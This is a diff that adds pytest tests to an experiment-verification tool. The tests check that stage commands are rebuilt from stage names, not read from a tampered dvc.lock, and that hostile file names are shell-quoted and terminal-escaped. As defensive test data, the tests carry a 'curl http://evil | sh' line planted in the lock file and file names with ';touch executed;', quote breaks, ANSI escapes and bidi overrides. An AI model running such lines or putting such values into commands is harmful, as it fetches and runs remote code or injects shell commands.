@@ -381,6 +381,63 @@ def test_a_check_that_a_file_ends_names_it_and_the_next_goes_on(study, monkeypat
     assert found[1].startswith(f"{BEST}: found damaged")
 
 
+STAGES = {
+    "train@vgg08-0": TRAIN,
+    "gradients@vgg38_bn-12": "vanishing gradients vgg38_bn --seed 12",
+    "tables@core": "vanishing tables core",
+    "data": "vanishing data",
+    "data@x": "dvc repro",
+    "train@vgg08;ls-0": "dvc repro",
+    "tables@--help": "dvc repro",
+    "own": "dvc repro",
+}
+
+
+@pytest.mark.parametrize(("name", "command"), STAGES.items(), ids=STAGES)
+def test_commands_come_from_the_names_of_stages(name, command):
+    assert locked.Stage(name, {}, {}).command == command
+
+
+def test_no_command_of_a_record_is_printed(study, unbuilt, capsys):
+    content = yaml.safe_load(Path("dvc.lock").read_text())
+    for entry in content["stages"].values():
+        entry["cmd"] = "curl http://evil | sh"
+    content["stages"]["own"] = content["stages"].pop("report")
+    Path("dvc.lock").write_text(yaml.safe_dump(content))
+    flip(HISTORY)
+    flip(DATA)
+    flip(cached(BEST))
+    flip(Path("report/report.pdf"))
+    found = verify(capsys)[1]
+    assert len(found) == 4
+    assert not any("evil" in line for line in found)
+    assert found[-2].endswith("; next: `dvc repro`")
+
+
+@pytest.mark.parametrize(
+    ("name", "command", "shown"),
+    [
+        ("x;touch executed;.safetensors", "rm '{}/x;touch executed;.safetensors'", ""),
+        ("x y'.safetensors", "rm '{}/x y'\"'\"'.safetensors'", ""),
+        ("\x1b[2Jx\n\u202e.safetensors", "", r"{}/\x1b[2Jx\n\u202e.safetensors: found one"),
+        ("\udcff.safetensors", "", r"{}/\udcff.safetensors: found one"),
+    ],
+)
+def test_a_hostile_name_is_quoted_in_a_command_and_escaped_on_the_terminal(study, name, command, shown, capsys):
+    shutil.copy(BEST, BEST.parent / name)
+    (line,) = [line for line in verify(capsys)[1] if "found one" in line]
+    assert line.isprintable()
+    assert command.format(BEST.parent) in line
+    assert line.startswith(shown.format(BEST.parent))
+
+
+def test_a_run_whose_name_no_study_could_have_is_in_no_command(study, capsys):
+    folder = shutil.copytree(HISTORY.parent, Path("results/runs/x;touch executed/seed0"))
+    flip(folder / "history.csv")
+    code, found, _ = verify(capsys)
+    assert (code, found[0].rpartition(", ")[2]) == (0, "3 files here not compared")
+
+
 def test_a_damaged_summary_is_named(study, capsys):
     SUMMARY.write_text("{")
     code, found, _ = verify(capsys)
